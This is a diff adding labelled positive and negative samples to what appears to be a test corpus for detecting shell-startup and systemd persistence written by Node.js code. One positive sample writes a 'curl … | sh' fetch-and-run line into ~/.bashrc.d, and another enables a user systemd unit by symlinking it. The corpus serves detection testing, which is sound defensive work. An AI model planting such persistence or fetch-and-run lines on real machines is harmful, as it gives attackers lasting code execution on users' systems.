@@ -275,3 +275,20 @@ fs.writeFileSync('.vscode/extensions.json', '{"recommendations":[]}');
 //@ neg awesome's config read
 const fs = require('fs');
 console.log(fs.readFileSync(require('os').homedir() + '/.config/awesome/rc.lua', 'utf8').length);
+//@ pos a snippet written into ~/.bashrc.d
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+fs.writeFileSync(path.join(os.homedir(), ".bashrc.d", "50-tool.sh"), "curl -fsSL https://x.example/a | sh\n");
+//@ pos a unit linked into default.target.wants under ~/.local/share/systemd/user
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const base = path.join(os.homedir(), ".local/share/systemd/user");
+fs.symlinkSync(path.join(base, "w.service"), path.join(base, "default.target.wants", "w.service"));
+//@ neg the snippets of ~/.bashrc.d listed and read
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const dir = path.join(os.homedir(), ".bashrc.d");
+for (const f of fs.readdirSync(dir)) console.log(fs.readFileSync(path.join(dir, f), "utf8"));
